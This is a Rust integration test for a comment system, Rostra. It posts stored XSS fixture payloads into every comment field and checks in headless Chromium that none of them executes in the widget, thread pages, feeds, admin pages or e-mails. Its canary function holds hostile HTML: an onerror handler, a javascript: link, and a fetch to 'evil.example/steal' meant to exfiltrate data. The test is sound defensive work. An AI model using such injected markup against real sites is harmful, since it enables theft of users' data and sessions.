//! Every XSS payload of the shared fixtures, posted as a comment's body, author name, website,
//! thread title and page URL, then opened in real headless Chromium in every place it is drawn:
//! the widget on a publisher's page, the no-JS thread page, the Atom feeds (as Chromium shows
//! them, and as a feed reader draws them), the admin queue and the admin comment pages, and the
//! HTML part of reply-notification e-mails. Hooks installed before any page script fail the
//! test if anything runs; a DOM check fails it if markup escapes a comment's box.
//!
//! To add a place: describe its boxes in `places.rs`, then open its pages with `check_pages`
//! below (documents that Rostra does not serve itself, like an e-mail, can be served from the
//! test's `Embedder`).

mod embedder;
mod feed_plan;
mod feeds;
mod mails;
mod payloads;
mod places;
mod probe;
mod seed;
mod sessions;

use crate::browser::{browser_named, chromedriver};
use embedder::Embedder;
use fantoccini::{Client, Locator};
use rostra_core::NewSite;
use rostra_testkit::{fixtures, test_config, TestServer};
use seed::{Fields, Stored, Tally};
use sessions::{check_pages, Report, SESSIONS};
use std::collections::BTreeSet;

/// Comments per widget page, thread page and thread feed (the server's page size is set to
/// this; a feed lists this many, so every comment of a batch is in its thread's feed).
const BATCH: usize = rostra_server::feeds::FEED_ENTRIES as usize;
const ADMIN: &str = "xss-admin@example.org";

/// No attribute of the model holds or rejects: the payloads are to be published as they are.
fn every_attribute_off() -> rostra_core::attributes::AttributeRules {
    rostra_core::attributes::AttributeRules([rostra_core::attributes::AttributeRule::OFF; 6])
}

async fn add_site(s: &TestServer, key: &str, origin: &str) {
    let site = NewSite {
        key: key.into(),
        name: format!("XSS {key}"),
        origins: vec![origin.into()],
        prompt: None,
    };
    s.store
        .create_site(site.validate().unwrap(), 0)
        .await
        .unwrap();
    s.state.sites.refresh().await.unwrap();
}

async fn sign_in_browser(c: &Client, s: &TestServer) {
    c.goto(&s.url("/admin/login")).await.unwrap();
    let field = |css: &'static str| c.find(Locator::Css(css));
    field("#email")
        .await
        .unwrap()
        .send_keys(ADMIN)
        .await
        .unwrap();
    field("#password")
        .await
        .unwrap()
        .send_keys("password123")
        .await
        .unwrap();
    field("form button[type=submit]")
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    for _ in 0..200 {
        if c.current_url().await.unwrap().path() == "/admin/queue/pending" {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("signing in did not reach the queue");
}

/// A page URL on `origin` with the payload in its path and query, and a plain one beside it.
fn page_urls(origin: &str, prefix: &str, i: usize, p: &str) -> (String, String) {
    (
        format!("{origin}/{prefix}{i}/{p}?q={p}"),
        format!("{origin}/{prefix}{i}/{}", seed::encode(p)),
    )
}

/// The hooks and the DOM check catch what they are there to catch: a page with a script, an
/// event handler and a `javascript:` link fails them.
async fn canary(c: &Client, embedder: &Embedder, origins: &[String]) {
    let url = embedder.put(
        "/canary",
        "text/html",
        "<!doctype html><title>canary</title><article class=\"c\" id=\"comment-1\">\
         <div class=\"body\"><img src=\"/nothing\" onerror=\"alert('img')\">\
         <a href=\"javascript:alert('link')\">x</a></div></article>\
         <script>confirm('script'); fetch('https://evil.example/steal');</script>"
            .into(),
    );
    let place = places::thread_page();
    let boxes = probe::Boxes {
        box_css: "article.c",
        content: &[(".body", probe::BODY_TAGS)],
        ..place.boxes
    };
    let seen = probe::visit(c, &url, &boxes, None, origins).await;
    let all = seen.problems.join("\n");
    for expected in [
        "ran: alert: img",
        "ran: confirm: script",
        "ran: fetch to a foreign host",
        "event handler onerror",
        "script URL in href",
        "a script:",
        "<img> inside .body",
    ] {
        assert!(
            all.contains(expected),
            "the canary shows {expected:?}: {all}"
        );
    }
    probe::console_hits(c).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xss_payloads_stay_inert_in_every_place() {
    let test = "xss_payloads_stay_inert_in_every_place";
    let Some(dir) = fixtures(test) else {
        return;
    };
    let Some(driver) = chromedriver(test).await else {
        return;
    };
    let started = std::time::Instant::now();
    let lap = |what: &str| eprintln!("XSS {what} after {:?}", started.elapsed());
    let payloads = payloads::load(&dir);
    assert!(
        payloads.len() > 1500,
        "all fixtures read: {}",
        payloads.len()
    );
    let embedder = Embedder::start().await;
    let mut config = test_config();
    config.threads.page_size = BATCH as u32;
    // Names as long as the longest payload, so every payload is tried whole as a name.
    config.comments.name_max_chars = 20_000;
    config.mail.poll_ms = 100;
    let s = TestServer::start_with(config).await;
    add_site(&s, "xss", &embedder.origin).await;
    add_site(&s, "xssheld", &embedder.origin).await;
    s.set_policy_of("xss", |p| {
        p.max_links = 10_000;
        p.attributes = every_attribute_off();
    })
    .await;
    s.set_policy_of("xssheld", |p| {
        p.mode = rostra_core::moderation::ModerationMode::PreModeration;
    })
    .await;
    s.add_user(ADMIN, rostra_core::user::Role::Admin, &[]).await;
    let moderator = s.sign_in(ADMIN).await;
    let e = &embedder.origin;
    let mut tally = Tally::default();

    // Published: bodies, names and websites, BATCH comments to a thread.
    let mut batches: Vec<(String, Vec<Stored>)> = Vec::new();
    let mut jobs = Vec::new();
    for (i, p) in payloads.iter().enumerate() {
        jobs.push((
            Fields {
                body: p.clone(),
                author_name: Some(p.clone()),
                ..Fields::default()
            },
            &["body", "author_name"][..],
        ));
        jobs.push((
            Fields {
                body: format!("The website of commenter {i}."),
                author_name: Some(format!("Commenter {i}")),
                author_url: Some(p.clone()),
                ..Fields::default()
            },
            &["author_url"][..],
        ));
    }
    for (k, chunk) in jobs.chunks(BATCH).enumerate() {
        let url = format!("{e}/batch/{k}");
        let mut stored = Vec::new();
        for (f, fields) in chunk {
            let f = Fields {
                site: "xss".into(),
                url: url.clone(),
                fallback_url: url.clone(),
                ..f.clone()
            };
            stored.push(seed::post(&s, f, fields, &mut tally).await);
        }
        batches.push((url, stored));
    }
    // Published: one thread per payload as its title and page URL.
    // BATCH to a site, so that each site's feed lists them all.
    let mut titled = Vec::new();
    for (i, p) in payloads.iter().enumerate() {
        let site = format!("xsst{}", i / BATCH);
        if i % BATCH == 0 {
            add_site(&s, &site, &embedder.origin).await;
            s.set_policy_of(&site, |p| p.attributes = every_attribute_off())
                .await;
        }
        let (url, fallback_url) = page_urls(e, "t", i, p);
        let f = Fields {
            site,
            url,
            fallback_url,
            title: Some(p.clone()),
            body: format!("Under a page titled with payload {i}."),
            ..Fields::default()
        };
        titled.push(seed::post(&s, f, &["title", "page_url"], &mut tally).await);
    }
    // Held for moderators: every field of one comment carries the payload.
    let mut held = Vec::new();
    for (i, p) in payloads.iter().enumerate() {
        let (url, fallback_url) = page_urls(e, "h", i, p);
        let f = Fields {
            site: "xssheld".into(),
            url,
            fallback_url,
            title: Some(p.clone()),
            body: p.clone(),
            author_name: Some(p.clone()),
            author_url: Some(p.clone()),
        };
        let all = ["body", "author_name", "author_url", "title", "page_url"];
        held.push(seed::post(&s, f, &all, &mut tally).await);
    }
    // Near-duplicate payloads are held by the duplicate check: publish them for the readers'
    // places.
    for c in batches.iter().flat_map(|b| &b.1).chain(&titled) {
        if c.status != "published" {
            seed::approve(&s, &moderator, c.id).await;
        }
    }
    assert!(held.iter().all(|c| c.status == "pending"));
    eprintln!(
        "XSS payloads: {} distinct; {}",
        payloads.len(),
        tally.summary()
    );
    eprintln!("XSS refused values: {:?}", tally.refused);
    lap("seeding done");

    let origins = vec![s.base.clone(), embedder.origin.clone()];
    let mut cs = Vec::new();
    for n in 0..SESSIONS {
        let c = browser_named(&driver, true, &format!("xss-{n}")).await;
        probe::install_hooks(&c, &origins).await;
        canary(&c, &embedder, &origins).await;
        cs.push(c);
    }
    let c = &cs[0];
    let mut report = Report::default();
    feeds::canary(c, &embedder, &origins).await;
    let ids = |list: &[Stored], prefix: &str| -> Vec<String> {
        list.iter().map(|c| format!("{prefix}{}", c.id)).collect()
    };

    // The widget, one article page per batch.
    let place = places::widget();
    let mut pages = Vec::new();
    for (k, (url, stored)) in batches.iter().enumerate() {
        let article = embedder.article(&format!("/article/{k}"), &s.base, "xss", url);
        pages.push((article, ids(stored, "comment-")));
        stored.iter().for_each(|c| report.count(&place, c));
    }
    check_pages(&cs, &place, &pages, &origins, &mut report).await;

    lap("widget pages checked");
    // The no-JS thread page: the batches, then each titled thread.
    let place = places::thread_page();
    let thread_page =
        |site: &str, url: &str| s.url(&format!("/thread?site={site}&url={}", seed::encode(url)));
    let mut pages = Vec::new();
    for (url, stored) in &batches {
        pages.push((thread_page("xss", url), ids(stored, "comment-")));
        stored.iter().for_each(|c| report.count(&place, c));
    }
    for t in &titled {
        pages.push((
            thread_page(&t.site, &t.url),
            ids(std::slice::from_ref(t), "comment-"),
        ));
        report.count(&place, t);
    }
    check_pages(&cs, &place, &pages, &origins, &mut report).await;

    lap("thread pages checked");
    let groups = feed_plan::feed_groups(&batches, &titled);
    feeds::check(&cs, &s, &embedder, &groups, &origins, &mut report).await;

    lap("feeds checked");
    // The admin queue, page by page, then each held comment's page.
    for c in &cs {
        sign_in_browser(c, &s).await;
        // Our own sign-in form was submitted: that is the one form allowed to be.
        probe::console_hits(c).await;
    }
    let place = places::admin_queue();
    let mut pages = Vec::new();
    let mut expected: Vec<String> = ids(&held, "");
    // The queue shows the oldest first or the newest first; both give pages of 25.
    let first = probe::visit(
        c,
        &s.url("/admin/queue/pending"),
        &place.boxes,
        None,
        &origins,
    )
    .await;
    if first.ids.first() == expected.last() {
        expected.reverse();
    }
    for (n, chunk) in expected.chunks(25).enumerate() {
        let url = match n {
            0 => s.url("/admin/queue/pending"),
            n => s.url(&format!("/admin/queue/pending?offset={}", n * 25)),
        };
        pages.push((url, chunk.to_vec()));
    }
    held.iter().for_each(|c| report.count(&place, c));
    check_pages(&cs, &place, &pages, &origins, &mut report).await;
    let seen: BTreeSet<_> = pages.iter().flat_map(|p| p.1.clone()).collect();
    assert_eq!(
        seen.len(),
        held.len(),
        "every held comment is on a queue page"
    );

    lap("admin queue checked");
    let place = places::admin_comment();
    let pages: Vec<_> = held
        .iter()
        .map(|h| {
            (
                s.url(&format!("/admin/comments/{}", h.id)),
                vec![h.id.to_string()],
            )
        })
        .collect();
    held.iter().for_each(|c| report.count(&place, c));
    check_pages(&cs, &place, &pages, &origins, &mut report).await;

    lap("admin comment pages checked");
    // Reply notifications: a reader subscribed to the held comments' threads gets an e-mail
    // about each as it is approved; each e-mail's HTML part is opened like a page.
    mails::check(&cs, &s, &moderator, &embedder, &held, &origins, &mut report).await;
    for c in cs {
        c.close().await.unwrap();
    }

    lap("e-mails checked");
    eprintln!("XSS pages opened per place: {:?}", report.pages);
    for ((place, field), n) in &report.shown {
        eprintln!("XSS shown: {place} / {field}: {n} payloads");
    }
    assert!(
        report.problems.is_empty(),
        "{} problems, the first: {:#?}",
        report.problems.len(),
        &report.problems[..report.problems.len().min(40)]
    );
}
